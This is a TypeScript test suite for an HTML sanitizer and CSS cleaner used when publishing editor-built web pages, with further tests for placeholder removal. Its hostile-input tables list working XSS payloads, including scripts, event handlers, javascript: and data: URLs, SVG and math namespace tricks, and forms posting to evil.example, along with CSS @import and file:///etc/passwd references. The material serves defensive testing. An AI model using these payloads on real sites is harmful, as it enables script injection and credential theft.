import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { cleanCss } from './clean-css.ts';
import { sanitizePage } from './sanitize.ts';
import { unfilledSections } from './unfilled.ts';

const HOSTILE: readonly [what: string, html: string][] = [
  ['a script', '<p>a</p><script>alert(1)</script>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a handler', '<img src="/a.png" onerror="alert(1)">'],
  ['a handler in mixed case', '<div oNcLiCk="alert(1)">a</div>'],
  ['a javascript address', '<a href="javascript:alert(1)">a</a>'],
  ['a javascript address in disguise', '<a href="java&#9;script:alert(1)">a</a>'],
  ['a data document', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="x.swf"></object><embed src="x.swf">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a form to elsewhere', '<form action="https://evil.example"><input name="password"></form>'],
  ['a form that goes elsewhere in capitals', '<FORM ACTION="//evil.example" METHOD="GET" onsubmit="a()"></FORM>'],
  ['a button that goes elsewhere', '<form><button formaction="https://evil.example">a</button></form>'],
  ['a field of a foreign form', '<input form="other" name="a">'],
  ['a script in a text field', '<textarea><script>alert(1)</script></textarea>'],
  ['a way out of a text field', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['a script in a choice', '<select><option><script>alert(1)</script></option></select>'],
  ['a picture as a field', '<input type="image" src="https://evil.example/x.png">'],
  ['a script in a drawing', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><rect/></a></svg>'],
  ['a foreign object', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['an animated address', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['a style element', '<style>@import url(//evil.example/x.css)</style>'],
  ['an expression', '<p style="width:expression(alert(1))">a</p>'],
  ['a script in a picture style', '<p style="background:url(javascript:alert(1))">a</p>'],
  ['a picture that is a document', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a broken tag', '<img src="x" onerror=alert(1) <p'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a math namespace', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'],
];

for (const [what, html] of HOSTILE) {
  test(`takes away ${what}`, () => {
    const clean = sanitizePage(html);
    assert.doesNotMatch(clean, /<(?:script|iframe|object|embed|base|meta|style|template|foreignobject|animate)/i);
    assert.doesNotMatch(clean, /<[^>]*\s(?:on\w+|(?:form)?action|formmethod|form|enctype)\s*=/i);
    assert.doesNotMatch(clean, /javascript:|expression\(|data:text|evil\.example/i);
  });
}

test('keeps a form and its fields, posting to the page itself', () => {
  const fields =
    '<label for="a">Name</label><input type="email" name="Name" id="a" required autocomplete="email" maxlength="200" />' +
    '<textarea name="Message" rows="4"></textarea><select name="Size"><option value="">Choose</option><option>Small</option></select>';
  const clean = sanitizePage(`<form method="get" action="/x">${fields}<button type="submit">Send</button></form>`);
  assert.equal(
    clean.replaceAll('required=""', 'required'),
    `<form method="post">${fields}<button type="submit">Send</button></form>`,
  );
});

test('takes away fields that no page may ask for', () => {
  assert.equal(
    sanitizePage('<form><input type="password" name="a"><input type="image" name="b"></form>'),
    '<form method="post"></form>',
  );
});

test('keeps what a form is called, and its steps and conditions', () => {
  const form =
    '<form method="post" data-form="a-1" data-thanks="See you"><label data-step="2" data-if="Kind" data-is="Job"><input type="file" name="CV" /></label></form>';
  assert.equal(sanitizePage(form), form);
});

test('keeps what our sections and the editor produce', () => {
  const html =
    '<section class="hero" data-section="hero" id="hero"><div class="wrap"><h1 class="long">Hi &amp; <em>you</em></h1>' +
    '<a class="button" href="#contact">Go</a><svg class="icon" viewBox="0 0 24 24" aria-hidden="true"><path d="m9 12 2 2"></path></svg>' +
    '<img class="hero-art" src="/v1/editor/assets/art/tiles-iris-7.svg" width="640" height="560" alt="" /></div></section>' +
    '<details open><summary>Q</summary><p style="color:#fff">A</p></details>';
  const clean = sanitizePage(html);
  for (const kept of [
    'data-section="hero"',
    'id="hero"',
    'viewBox="0 0 24 24"',
    'd="m9 12 2 2"',
    '<details open',
    'style="color:#fff"',
    '/v1/editor/assets/art/tiles-iris-7.svg',
  ]) {
    assert.ok(clean.includes(kept), `${kept} in ${clean}`);
  }
});

test('leaves out placeholders that nobody filled in', () => {
  const clean = sanitizePage(
    '<div><figure data-placeholder="quote"><p>Put words here</p></figure><figure><p>Real</p></figure></div>',
  );
  assert.equal(clean, '<div><figure><p>Real</p></figure></div>');
});

const section = (id: string, inside: string) =>
  `<section data-section="${id}" id="${id}"><h2>${id}</h2>${inside}</section>`;
const SAMPLE = '<li data-placeholder="line"><h3 data-placeholder="text">A starter</h3></li>';

test('leaves out a section of placeholders alone, with its drawing, its button and the links to it', () => {
  const links = (...ids: string[]) => `<nav>${ids.map((id) => `<a href="#${id}">${id}</a>`).join('')}</nav>`;
  const clean = sanitizePage(
    links('menu', 'hours') +
      section('hero', '<p data-placeholder="text">Say it</p><a class="button" href="#menu">Menu</a>') +
      section(
        'menu',
        `<img src="/v1/editor/assets/art/tiles-iris-7.svg" alt=""><ul>${SAMPLE}</ul><a class="button" href="#form">Go</a>`,
      ) +
      section('hours', '<p>See the <a href="#menu">menu</a>.</p>'),
  );
  assert.equal(clean, links('hours') + section('hero', '') + section('hours', '<p>See the menu.</p>'));
});

test('keeps a section in which anything was written, and leaves out its groups of placeholders', () => {
  const group = (name: string, inside: string) => `<div class="row-group"><h3>${name}</h3><ul>${inside}</ul></div>`;
  const dish = '<li><h4>Soup</h4></li>';
  assert.equal(
    sanitizePage(section('menu', group('Starters', SAMPLE) + group('Mains', dish + SAMPLE))),
    section('menu', group('Mains', dish)),
  );
  const photo = '<figure><img src="/v1/files/a.webp" alt="" /></figure>';
  assert.equal(sanitizePage(section('story', `${photo}<p data-placeholder="text">a</p>`)), section('story', photo));
  assert.equal(sanitizePage(section('empty', '')), section('empty', ''));
  assert.equal(
    sanitizePage(`<section data-placeholder="date" id="a">${SAMPLE}</section>${section('b', '')}`),
    section('b', ''),
  );
  assert.equal(sanitizePage(section('gallery', photo.replace('<figure', '<figure data-placeholder="picture"'))), '');
});

test('leaves out a list in a text whose items are all placeholders', () => {
  const list = (...items: string[]) => `<ul class="list">${items.join('')}</ul>`;
  const sample = '<li data-placeholder="text">A sample</li>';
  assert.equal(
    sanitizePage(section('story', `<p>a</p>${list(sample)}${list(sample, '<li>b</li>')}`)),
    section('story', `<p>a</p>${list('<li>b</li>')}`),
  );
  const picture = '<li><img src="/v1/files/a.webp" alt="" /></li>';
  assert.equal(sanitizePage(list(picture)), list(picture));
});

test('a link to a new tab cannot reach back', () => {
  assert.match(sanitizePage('<a href="https://example.com" target="_blank" rel="opener">a</a>'), /rel="noopener"/);
});

for (const [what, css, gone] of [
  ['an import', '@import url("//evil.example/x.css");p{color:red}', /import|evil/],
  ['an import in disguise', '@\\69mport "//evil.example";p{color:red}', /evil/],
  ['an import within a comment', '@im/**/port "//evil.example";p{color:red}', /evil/],
  ['the end of the style element', 'p{color:red}</style><script>alert(1)</script>', /<|alert\(1\)<\/script/],
  ['an import that appears once the rest is gone', '@im</port "//evil.example";p{color:red}', /evil/],
  ['a script as a picture', 'p{color:red;background:url( "javascript:alert(1)" )}', /javascript/],
  ['a foreign scheme', "p{color:red;background:url('file:///etc/passwd')}", /file:/],
] as const) {
  test(`takes ${what} out of a stylesheet`, () => {
    const clean = cleanCss(css);
    assert.doesNotMatch(clean, gone);
    assert.match(clean, /p\{color:red/);
  });
}

test('keeps rules, media queries and pictures', () => {
  const css = '#i3x{color:red;background:url(/v1/files/a.png)}@media (max-width:480px){#i3x{padding:4px 2px}}';
  assert.equal(cleanCss(css), css);
});

test('no input gets a script, a handler or a way out of the style element through', () => {
  const piece = fc.constantFrom(
    '<script',
    '>',
    '</style',
    '<',
    '"',
    "'",
    ' onerror=',
    'javascript:',
    '<img src=',
    '<svg',
    '/',
    '@import ',
    'url(',
    '/*',
    '*/',
    '\\',
    '\0',
    'a',
    ' ',
    '=',
    '&lt;',
    '<!--',
    '-->',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const input = pieces.join('');
      const html = sanitizePage(input);
      // What stands in quotes is a value, whatever it says.
      assert.doesNotMatch(html, /<script|<style|<[^>"]*(?:"[^"]*"[^>"]*)*\son\w+=(?!&)/i);
      assert.equal(sanitizePage(html), html, 'sanitising twice changes nothing');
      assert.doesNotMatch(cleanCss(input), /</);
    }),
    { numRuns: 500, examples: [[['<img src=', '"', ' onerror=', '"', '>']]] },
  );
});

test('a link to a domain leads there, and not to a page of that name beside this one', () => {
  const href = (typed: string) => /href="([^"]*)"/.exec(sanitizePage(`<a href="${typed}">a</a>`))?.[1];
  assert.equal(href('www.example.com'), 'https://www.example.com');
  assert.equal(href('ana@example.org'), 'mailto:ana@example.org');
  for (const kept of ['#contact', '/menu', 'menu', 'https://example.org/']) assert.equal(href(kept), kept);
});

test('which sections are left out is known before a page is published', () => {
  const html =
    '<section id="contact" data-section="contact"><h2>Contact</h2><a class="button" href="#a">Up</a><p data-placeholder="text">Your e-mail</p></section><section id="team" data-placeholder="team"><p>Ana</p></section><section id="faq" data-section="faq"><p data-placeholder="text">a</p><p>b</p></section><section id="shots" data-section="gallery"><p data-placeholder="text">a</p><img src="/a.png"></section>';
  const published = sanitizePage(html);
  assert.deepEqual([...unfilledSections(html)], ['contact', 'team']);
  assert.deepEqual(
    [...published.matchAll(/ id="(\w+)"/g)].map(([, id]) => id),
    ['faq', 'shots'],
  );
});
